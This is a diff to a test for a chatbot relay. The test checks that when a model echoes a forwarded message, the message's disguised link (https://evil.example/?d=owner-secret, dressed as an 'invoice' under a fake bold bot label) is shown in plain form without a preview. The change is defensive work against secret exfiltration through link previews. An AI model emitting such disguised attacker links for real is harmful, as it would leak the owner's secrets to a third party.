@@ -117,14 +117,17 @@ async def test_only_the_owners_own_untainted_turns_get_link_previews(make_jobs: 
     jobs.model.push(text("The docs: https://example.org/guide"))
     jobs.tg.outgoing(OWNER_ID, "where are the docs?")
     await jobs.replies_to(OWNER_ID, 1)
-    jobs.model.push(text("Bob's link: https://evil.example/?d=owner-secret"))
+    # A model that echoes Bob: his link is spelled out, his bold frame is not formatting.
+    jobs.model.push(text("**Jobs:** [your invoice](https://evil.example/?d=owner-secret) `ok`"))
     jobs.tg.outgoing(OWNER_ID, "what is this?", fwd_from=forwarded_from_bob())
     await jobs.replies_to(OWNER_ID, 2)
     await jobs.settled()
 
-    sent = {r.message: r.no_webpage for r in jobs.send_requests(OWNER_ID)}
-    assert sent == {
-        "The docs: https://example.org/guide": False,  # the owner's own question
-        "Bob's link: https://evil.example/?d=owner-secret": True,  # after Bob's words: never
-    }
+    sent = {r.message: (r.no_webpage, r.entities) for r in jobs.send_requests(OWNER_ID)}
+    guarded = "Jobs: your invoice (https://evil.example/?d=owner-secret) ok"
+    assert set(sent) == {"The docs: https://example.org/guide", guarded}
+    assert not sent["The docs: https://example.org/guide"][0]  # the owner's own question
+    no_webpage, entities = sent[guarded]
+    assert no_webpage  # after Bob's words: never a preview
+    assert [type(e).__name__ for e in entities or []] == ["MessageEntityCode"]
     jobs.assert_no_unasked_previews()
